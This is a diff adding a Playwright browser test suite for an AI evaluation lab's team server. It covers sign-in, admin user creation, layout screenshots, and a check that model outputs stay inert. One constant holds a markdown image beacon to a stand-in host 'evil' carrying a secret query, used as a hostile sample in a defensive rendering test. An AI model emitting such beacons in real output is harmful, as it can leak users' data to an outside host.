@@ -1,0 +1,189 @@
+"""The team server's pages in a real Chromium, signed in as a person signs in.
+
+Its pictures are for a person to look at: tests/screenshots, not in git.
+"""
+
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from playwright.sync_api import Browser, BrowserContext, Page, expect
+from servers.markup import SCRIPTS
+from servers.team import PASSWORD, TeamServer
+
+import aistrale_lab as lab
+from aistrale_lab.domain.tasks import Dataset, Sample, Task
+from aistrale_lab.settings import Settings
+
+FOLDER = Path(__file__).parents[1] / "screenshots"
+QUESTIONS = Path(__file__).parents[2] / "datasets" / "skills.jsonl"
+MODELS = ["embedded/small", "embedded/mini", "embedded/constant"]
+BEACON = "![](http://evil/?q=secret)"
+PATIENCE = 120_000
+"""Milliseconds: a busy machine computes a report in a minute."""
+
+pytestmark = pytest.mark.timeout(300)
+
+
+@pytest.fixture(scope="module")
+def team(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TeamServer]:
+    """A server over a true experiment, and one of hostile texts."""
+    url = f"sqlite:///{tmp_path_factory.mktemp('team')}/store.db"
+    with lab.Lab.open(url, settings=Settings()) as bench, TeamServer(bench) as server:
+        questions = lab.load_dataset(QUESTIONS, limit=60)
+        task = lab.Task(dataset=questions, scorers=["exact", "similarity"])
+        bench.start(task, MODELS, name="Arithmetic").wait(100)
+        texts = (*SCRIPTS, BEACON)
+        samples = tuple(Sample(id=t, input=t, target=t, group=t) for t in texts)
+        hostile = Task(dataset=Dataset(name=SCRIPTS[0], samples=samples))
+        bench.start(hostile, ["embedded/echo", "embedded/constant"]).wait(60)
+        server.add_user("ann")
+        server.add_user("root", "admin")
+        yield server
+
+
+class Visit:
+    """A browser of a person; at the end nothing may have gone wrong in it."""
+
+    def __init__(self, context: BrowserContext, team: TeamServer) -> None:
+        self.team = team
+        self.page: Page = context.new_page()
+        self.said: list[str] = []
+        self.asked: list[str] = []
+        self.page.on("console", lambda message: self.said.append(message.text))
+        self.page.on("pageerror", lambda error: self.said.append(str(error)))
+        self.page.on("request", lambda request: self.asked.append(request.url))
+
+    def open(self, path: str) -> Page:
+        self.page.goto(f"{self.team.url}{path}")
+        return self.page
+
+    def sign_in(self, name: str) -> Page:
+        self.page.get_by_label("Name").fill(name)
+        self.page.get_by_label("Password").fill(PASSWORD)
+        self.page.get_by_role("button", name="Sign in").click()
+        return self.page
+
+    def check(self) -> None:
+        own = (f"{self.team.url}/", "data:image/svg+xml;base64,", "data:,")
+        assert [url for url in self.asked if not url.startswith(own)] == []
+        assert self.said == []
+
+
+@pytest.fixture
+def visit(browser: Browser, team: TeamServer) -> Iterator[Any]:
+    """Makes visits, of whatever colours and width."""
+    made: list[tuple[BrowserContext, Visit]] = []
+
+    def make(width: int = 1280, scheme: Any = "light") -> Visit:
+        size = {"width": width, "height": 900}
+        context = browser.new_context(viewport=size, color_scheme=scheme)
+        context.set_default_timeout(PATIENCE)
+        expect.set_options(timeout=PATIENCE)
+        made.append((context, Visit(context, team)))
+        return made[-1][1]
+
+    yield make
+    for context, one in made:
+        context.close()
+        one.check()
+
+
+def test_from_signing_in_to_signing_out(team: TeamServer, visit: Any) -> None:
+    one = visit()
+    page = one.open("/account")
+    expect(page).to_have_title("Sign in · AISTRALE Lab")
+
+    one.sign_in("ann")
+    expect(page.get_by_role("heading", level=1)).to_have_text("ann")
+    page.get_by_role("link", name="Experiments").click()
+    page.get_by_role("link", name="Arithmetic").click()
+    expect(page.get_by_role("heading", name="Leaderboard")).to_be_visible()
+    expect(page.locator("#leaderboard img").first).to_be_visible()
+
+    page.get_by_role("button", name="Compare").click()
+    expect(page.get_by_role("heading", name="Differences")).to_be_visible()
+    page.get_by_role("link", name="all", exact=False).last.click()
+    page.locator(".card a").first.click()
+    expect(page.get_by_role("heading", name="The call")).to_be_visible()
+    page.locator(".trail a").last.click()
+    page.get_by_label("Search").fill("add")
+    page.get_by_role("button", name="Apply").click()
+    expect(page.get_by_role("status")).to_contain_text("filtered from 60")
+
+    page.get_by_role("button", name="Sign out").click()
+    expect(page).to_have_title("Sign in · AISTRALE Lab")
+    one.open("/experiments")
+    expect(page).to_have_title("Sign in · AISTRALE Lab")
+
+
+def test_what_models_say_does_nothing_in_a_browser(
+    team: TeamServer, visit: Any
+) -> None:
+    """S1, S39: nothing runs, and nothing is asked of another host."""
+    one = visit()
+    hostile = next(r for r in team.bench.runs() if r.model == "embedded/echo")
+    one.open(f"/experiments/{hostile.experiment_id}?whole=1")
+    page = one.sign_in("ann")
+
+    expect(page.get_by_role("heading", name="Provenance")).to_be_visible()
+    one.open(f"/runs/{hostile.id}")
+    page.get_by_role("link", name=BEACON).click()
+    expect(page.locator("pre", has_text="http://evil/?q=secret").first).to_be_visible()
+    assert page.locator("img, iframe").count() == 0
+
+
+def test_an_admin_makes_a_user_who_signs_in(team: TeamServer, visit: Any) -> None:
+    chief, new = visit(), visit()
+    chief.open("/users")
+    page = chief.sign_in("root")
+    page.get_by_label("Name").fill("carl")
+    page.get_by_role("button", name="Add the user").click()
+    password = page.locator(".notice code").inner_text()
+
+    other = new.open("/")
+    other.get_by_label("Name").fill("carl")
+    other.get_by_label("Password").fill(password)
+    other.get_by_role("button", name="Sign in").click()
+    expect(other.get_by_role("heading", level=1)).to_have_text("Experiments")
+
+    page.once("dialog", lambda dialog: dialog.accept())
+    page.get_by_role("row", name="carl").get_by_role("button", name="Disable").click()
+    expect(page.get_by_role("row", name="carl")).to_contain_text("disabled")
+    other.reload()
+    expect(other).to_have_title("Sign in · AISTRALE Lab")
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+@pytest.mark.parametrize("width", [1280, 800])
+def test_nothing_is_wider_than_the_page(
+    team: TeamServer, visit: Any, scheme: str, width: int
+) -> None:
+    FOLDER.mkdir(exist_ok=True)
+    runs = [run for run in team.bench.runs() if run.name == "Arithmetic"]
+    sample = team.bench.experiment(runs[0].experiment_id).task.dataset.samples[0].id
+    places = {
+        "sign-in": "/sign-in",
+        "experiments": "/experiments",
+        "experiment": f"/experiments/{runs[0].experiment_id}?whole=1",
+        "run": f"/runs/{runs[0].id}",
+        "sample": f"/runs/{runs[0].id}/sample?id={sample}",
+        "compare": f"/compare?baseline={runs[2].id}&candidate={runs[1].id}",
+        "account": "/account",
+        "users": "/users",
+        "error": "/experiments/nothing",
+    }
+    one = visit(width, scheme)
+    one.open("/experiments")
+    page = one.sign_in("root")
+    expect(page.get_by_role("heading", level=1)).to_have_text("Experiments")
+    for name, path in places.items():
+        one.open(path)
+
+        page.screenshot(
+            path=FOLDER / f"server-{name}-{scheme}-{width}.png", full_page=True
+        )
+        wide = "document.documentElement.scrollWidth > document.documentElement.clientWidth"
+        assert not page.evaluate(wide), name
+    one.said = [text for text in one.said if "404" not in text]  # the last page is one
